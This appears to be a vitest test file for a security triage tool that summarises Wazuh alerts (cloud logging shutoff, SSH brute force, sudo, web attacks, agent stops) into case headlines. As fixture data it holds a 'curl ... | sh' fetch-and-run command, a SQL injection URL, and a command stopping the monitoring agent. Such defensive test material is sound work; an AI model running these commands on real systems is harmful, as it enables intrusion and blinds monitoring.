import { describe, expect, it } from 'vitest'
import { type AlertParts, wazuhAlert, wazuhLine } from '../../test/support/wazuh-alert.ts'
import { casesOf } from '../commands/triage/triage-alerts.ts'
import { normalizeLine } from '../normalize/normalize-line.ts'
import { investigateCase } from './investigate.ts'

const at = Date.UTC(2026, 4, 4, 8, 0, 0)
const casesFrom = (...parts: readonly AlertParts[]) => casesOf(parts.map(wazuhAlert)).map(investigateCase)
const textOf = ({ computed }: ReturnType<typeof investigateCase>) =>
  computed.claims.map(({ text }) => text).join('\n')

describe('brief 0 of what happened elsewhere than on an agent', () => {
  const trail = (id: number, eventName: string): AlertParts => ({
    id: `1.${id}`,
    atMs: at + id * 60_000,
    rule: ['80202', 3, `AWS Cloudtrail: ${eventName}.`, ['amazon', 'aws', 'aws_cloudtrail']],
    data: {
      aws: {
        eventName,
        recipientAccountId: '111122223333',
        sourceIPAddress: '203.0.113.9',
        userIdentity: { userName: 'ann' },
      },
    },
    location: 'Wazuh-AWS',
  })
  it('names the account of the cloud, not the manager that fetched the log', () => {
    const [found] = casesFrom(trail(1, 'CreateAccessKey'), trail(2, 'StopLogging'))
    expect(found?.computed.headline).toBe(
      'An identity in a cloud service was given rights or credentials, then logging or protection was switched off in a cloud service: AWS account 111122223333, account ann, from 203.0.113.9, 2 alerts in 60 seconds',
    )
    expect(found?.computed.nextSteps[0]).toBe(
      'Switch it on again in AWS account 111122223333, and ask ann for the change ticket.',
    )
    expect(JSON.stringify(found?.computed)).not.toContain('web-01')
    expect(found?.computed.unknowns.join()).not.toContain('inventory')
  })
})

describe('brief 0 of guessing', () => {
  const logon = (id: number, user: string, success: boolean): AlertParts => ({
    id: `2.${id}`,
    atMs: at + id * 1000,
    rule: success
      ? ['5715', 3, 'sshd: authentication success.', ['sshd', 'authentication_success']]
      : id === 5
        ? [
            '5763',
            10,
            'sshd: brute force trying to get access to the system.',
            ['sshd', 'authentication_failures'],
          ]
        : ['5760', 5, 'sshd: authentication failed.', ['sshd', 'authentication_failed']],
    data: { srcip: '198.51.100.9', dstuser: user },
  })
  const guesses = ['a', 'b', 'c', 'd', 'e'].map((user, index) => logon(index + 1, user, false))

  it('is one case with the logon that came of it, and names the account that was entered', () => {
    const [found, ...others] = casesFrom(...guesses, logon(9, 'deploy', true))
    expect(others).toEqual([])
    expect(found?.computed.headline).toMatch(
      /a logon succeeded after many failures: web-01, account deploy, /i,
    )
    const text = found === undefined ? '' : textOf(found)
    expect(text).toContain('1 alert of a successful logon followed (deploy)')
    expect(found?.computed.nextSteps.join()).not.toContain('Look for a success')
    expect(found?.computed.unknowns.join()).not.toContain('Whether any guess succeeded')
  })
  it('tells how many accounts were tried, not one of them', () => {
    const [found] = casesFrom(...guesses)
    expect(found?.computed.headline).toContain('web-01, 5 accounts, from 198.51.100.9')
  })
})

describe('brief 0 says each thing once and right', () => {
  it('refused sudo opened no shell', () => {
    const [found] = casesFrom({
      rule: ['5405', 5, 'Unauthorized user attempted to use sudo.', ['syslog', 'sudo']],
      data: { srcuser: 'ann', dstuser: 'root', command: '/bin/bash' },
    })
    expect(found?.computed.headline).toBe('Sudo was refused: web-01, account ann, 1 alert')
  })
  it('an attack on a web application is told by what it was', () => {
    const [found] = casesFrom({
      rule: ['31103', 7, 'SQL injection attempt.', ['web', 'accesslog', 'attack', 'sql_injection']],
      data: { srcip: '203.0.113.9', id: '200', url: '/a?b=1%27%20UNION%20SELECT%20c' },
    })
    expect(found?.computed.headline).toBe(
      'A web request carried an attack: web-01, from 203.0.113.9, 1 alert',
    )
  })
  it('a file is added or deleted, and the person who logged on did it, not root', () => {
    const [found] = casesFrom({
      rule: ['553', 7, 'File deleted.', ['ossec', 'syscheck', 'syscheck_file']],
      syscheck: {
        path: '/srv/app/old.conf',
        event: 'deleted',
        audit: { user: { name: 'root' }, login_user: { name: 'ann' }, process: { name: '/usr/bin/vim' } },
      },
    })
    expect(found?.computed.headline).toBe('A file was deleted: web-01, account ann, 1 alert')
  })
  it('names in the words that stand for names are not filled in again', () => {
    const [found] = casesFrom({
      rule: ['60115', 9, 'User account locked out (multiple login errors).', ['windows', 'windows_security']],
      data: { win: { system: { eventID: '4740' }, eventdata: { targetUserName: 'HOST$&USER' } } },
    })
    expect(found?.computed.headline).toContain('The account host$&user was locked')
  })
  it('an agent that stops while its host is attacked belongs to the attack', () => {
    const parts: AlertParts[] = [
      {
        id: '3.1',
        atMs: at,
        rule: ['5402', 3, 'Successful sudo to ROOT executed.', ['syslog', 'sudo']],
        data: { srcuser: 'ann', dstuser: 'root', command: '/usr/bin/systemctl stop wazuh-agent' },
      },
      { id: '3.2', atMs: at + 2000, rule: ['506', 3, 'Wazuh agent stopped.', ['ossec']] },
    ]
    expect(casesFrom(...parts)).toHaveLength(1)
    expect(
      casesFrom(...parts.slice(1), { ...parts[1], host: 'other', id: '3.3' } as AlertParts),
    ).toHaveLength(2)
  })
  it('a response of Wazuh is told by the address that it acted on', () => {
    const [found] = casesFrom({
      rule: ['651', 3, 'Host Blocked by firewall-drop Active Response', ['ossec', 'active_response']],
      data: { command: 'add', parameters: { alert: { data: { srcip: '203.0.113.9' } } } },
    })
    expect(found?.computed.headline).toBe('Wazuh answered an alert by itself: web-01, 1 alert')
    expect(found === undefined ? '' : textOf(found)).toContain('by itself: «203.0.113.9»')
  })
  it('checks on Linux are those that Linux has', () => {
    const [found] = casesFrom({
      rule: ['24010', 3, 'osquery: result', ['osquery']],
      data: { osquery: { name: 'history', columns: { command: 'curl http://203.0.113.9/a | sh' } } },
    })
    expect(found?.computed.nextSteps.join()).not.toMatch(/Sysmon|4624/)
  })
})

describe('evidence of every kind of alert', () => {
  it('has the place of an address and the lines before, each at its field', () => {
    const document = {
      ...JSON.parse(
        wazuhLine({ rule: ['5763', 10, 'sshd: brute force.', ['sshd']], data: { srcip: '203.0.113.9' } }),
      ),
      GeoLocation: { country_name: 'Iceland', city_name: 'Akureyri', location: { lat: 65.7, lon: -18.1 } },
      previous_output: 'first line\nsecond line',
      previous_log: 'as it was',
    }
    const read = normalizeLine(Buffer.from(JSON.stringify(document)), { where: 'test', receivedAtMs: 0 })
    if (read.kind === 'quarantined') throw new Error(read.quarantined.message)
    const [context] = casesOf([read.alert])
    if (context === undefined) throw new Error('expected a case')
    const byPointer = new Map(investigateCase(context).evidence.map(item => [item.pointer, item]))
    expect(byPointer.get('/GeoLocation/country_name')).toMatchObject({ quote: 'Iceland', trust: 'observed' })
    expect(byPointer.get('/GeoLocation/city_name')).toMatchObject({ quote: 'Akureyri' })
    expect(byPointer.get('/previous_output')).toMatchObject({
      quote: 'first line\nsecond line',
      trust: 'attacker-controlled',
    })
    expect(byPointer.get('/previous_log')).toMatchObject({ quote: 'as it was', trust: 'attacker-controlled' })
  })
})
